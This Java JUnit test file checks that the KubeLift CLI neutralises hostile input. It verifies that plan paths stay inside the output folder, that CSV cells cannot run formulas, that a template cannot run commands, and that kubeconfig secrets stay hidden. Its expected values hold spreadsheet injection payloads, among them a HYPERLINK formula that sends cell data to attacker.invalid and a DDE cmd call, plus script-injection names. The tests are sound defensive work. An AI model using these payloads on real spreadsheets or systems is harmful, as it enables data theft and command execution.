package io.kubelift.hostile;

import static org.assertj.core.api.Assertions.assertThat;

import io.kubelift.cli.CliRunner;
import java.io.IOException;
import java.io.Reader;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * What KubeLift writes from hostile input: plan file names that stay inside {@code --out}, spreadsheet cells that
 * cannot run formulas, a shared template that cannot run a command, and credentials that never reach the terminal.
 * Each case is a file under {@code hostile/}.
 */
class HostileOutputsTest {
  private static final String DIR = HostileInputTest.DIR;
  @TempDir Path tmp;

  @Test
  void names_as_plan_paths_stay_inside_out_and_never_overwrite_each_other() throws IOException {
    Path out = tmp.resolve("plan");
    CliRunner.Result r = CliRunner.run("plan", "--out", out.toString(), DIR + "report-names.yaml");
    assertThat(r.code()).as(r.err()).isZero();
    assertThat(tmp.toFile().list()).containsExactly("plan"); // nothing beside --out
    List<Path> dirs;
    try (Stream<Path> s = Files.walk(out)) {
      List<Path> files = s.filter(Files::isRegularFile).toList();
      assertThat(files).allMatch(f -> f.normalize().startsWith(out));
      dirs = files.stream().map(f -> out.relativize(f.getParent())).distinct().sorted().toList();
    }
    // 9 VMs: two in their applications, seven standalone, three of them called db01 in some case
    assertThat(dirs).extracting(Path::toString).containsExactly("_standalone/db01-1f5b46a4",
        "_standalone/db01-21c93c62", "_standalone/db01-2204fd2c", "_standalone/etc-passwd",
        "_standalone/" + "n".repeat(63), "_standalone/x-y-cb564992", "_standalone/x-y-d6a02ba6",
        "script-alert-1-script", "svg-onload-alert-1");
    for (Path d : dirs) {
      try (Stream<Path> s = Files.list(out.resolve(d))) {
        assertThat(s.map(p -> p.getFileName().toString()).sorted().toList()).as(d.toString())
            .hasSize(2).contains("runbook.md");
      }
    }
  }

  @Test
  void csv_exports_neutralise_every_formula_in_inventory_text() throws IOException {
    Path out = tmp.resolve("report");
    CliRunner.Result r = CliRunner.run("assess", "--quiet", "--format", "csv", "--out", out.toString(),
        DIR + "formula-injection.csv");
    assertThat(r.code()).as(r.err()).isZero();
    List<CSVRecord> vms = records(out.resolve("vms.csv"));
    assertThat(vms).extracting(v -> v.get("VM")).containsExactly(
        "'=HYPERLINK(\"http://attacker.invalid/?x=\"&A1,\"open\")", "'+SUM(1+1)", "'-2+3", "'@import");
    assertThat(vms).extracting(v -> v.get("Application"))
        .containsExactly("'=cmd|' /C calc'!A0", "'@shop", "shop", "shop");
    assertThat(vms).extracting(v -> v.get("Role")).containsExactly("'+frontend", "'-backend", "app", "app");
    List<CSVRecord> findings = records(out.resolve("findings.csv"));
    assertThat(findings).isNotEmpty();
    for (CSVRecord f : findings) {
      for (String cell : f) {
        assertThat(cell).as(f.toString()).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("@")
            .doesNotStartWith("\t").doesNotStartWith("\r");
        if (cell.startsWith("-")) {
          assertThat(cell).as("a minus that starts a cell is a formula too").isEmpty();
        }
      }
    }
  }

  @Test
  void a_shared_template_cannot_run_a_command() throws IOException {
    Path work = Files.createDirectories(tmp.resolve("work"));
    CliRunner.Result r = CliRunner.run("assess", "--quiet", "--format", "md", "--templates",
        DIR + "templates-unsafe", "--out", work.resolve("report").toString(), "fixtures/seed/monolithic.yaml");
    assertThat(r.code()).isEqualTo(2);
    assertThat(r.err().strip().lines()).hasSize(1)
        .allMatch(l -> l.startsWith("kubelift: error: md/report.ftlmd:2: Instantiating "
            + "freemarker.template.utility.Execute is not allowed in the template for security reasons."));
    assertThat(Path.of("kubelift-template-canary")).doesNotExist();
    assertThat(work.resolve("kubelift-template-canary")).doesNotExist();
    assertThat(work.resolve("report/report.md")).doesNotExist();
  }

  @Test
  void kubeconfig_credentials_never_reach_the_terminal_even_with_debug() {
    for (String debug : new String[] {"--quiet", "--debug"}) {
      CliRunner.Result r = debug.equals("--debug")
          ? CliRunner.run("cluster", "check", "--debug", "--kubeconfig", DIR + "kubeconfig-secrets.yaml")
          : CliRunner.run("cluster", "check", "--kubeconfig", DIR + "kubeconfig-secrets.yaml");
      assertThat(r.code()).isEqualTo(2);
      assertThat(r.err()).contains("kubelift: error: context ctx at https://127.0.0.1:9/: cannot reach the cluster");
      for (String secret : List.of("kl-secret-token-7d41c2b9e05a", "kl-secret-password-93bf1e",
          "a2wtc2VjcmV0LWtleS1kYXRhLTQ0YzFhOGQy", "kl-secret-key-data-44c1a8d2")) {
        assertThat(r.out() + r.err()).as(debug).doesNotContain(secret);
      }
    }
  }

  private static List<CSVRecord> records(Path csv) throws IOException {
    try (Reader in = Files.newBufferedReader(csv)) {
      return CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get().parse(in).getRecords();
    }
  }
}
